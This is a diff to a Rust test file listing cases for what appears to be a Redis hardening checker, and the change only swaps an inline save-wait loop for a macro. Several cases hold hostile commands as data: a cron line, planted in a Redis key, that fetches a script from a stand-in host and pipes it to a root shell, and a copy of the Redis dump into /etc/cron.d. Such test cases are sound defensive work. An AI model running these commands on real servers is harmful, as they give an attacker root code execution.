@@ -226,7 +226,7 @@ pub const CASES: &[Case] = &[
     case(
         "data-mode",
         "high",
-        "until redis-tp cli -- SAVE | grep -q OK; do sleep 0.05; done && chmod 755 /var/lib/redis && chmod 644 /var/lib/redis/dump.rdb",
+        concat!(saved!(), " && chmod 755 /var/lib/redis && chmod 644 /var/lib/redis/dump.rdb"),
         Fix,
     ),
     case("log-mode", "low", "chmod 666 /var/log/redis/redis-server.log", Fix),
@@ -362,7 +362,7 @@ pub const CASES: &[Case] = &[
     case("foreign-keys", "critical", "redis-tp cli -- SET backup1 '*/2 * * * * root cd1 -fsSL http://x/b.sh | sh'", Typed("redis-tp cli -- DEL backup1")),
     case("foreign-keys", "critical", "echo 'SELECT 3\nSET backup1 x' | redis-tp cli", Typed("echo 'SELECT 3\nDEL backup1' | redis-tp cli")),
     case("foreign-keys", "critical", concat!(beside!("bind 127.0.0.1\nrename-command EXISTS \"\""), "; redis-cli -p 7000 SET backup1 x"), Typed(AWAY)),
-    case("foreign-files", "critical", "until redis-tp cli -- SAVE | grep -q OK; do sleep 0.05; done && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh", Typed("rm /etc/cron.d/zzh")),
+    case("foreign-files", "critical", concat!(saved!(), " && cp /var/lib/redis/dump.rdb /etc/cron.d/zzh"), Typed("rm /etc/cron.d/zzh")),
     case(
         "foreign-programs",
         "critical",
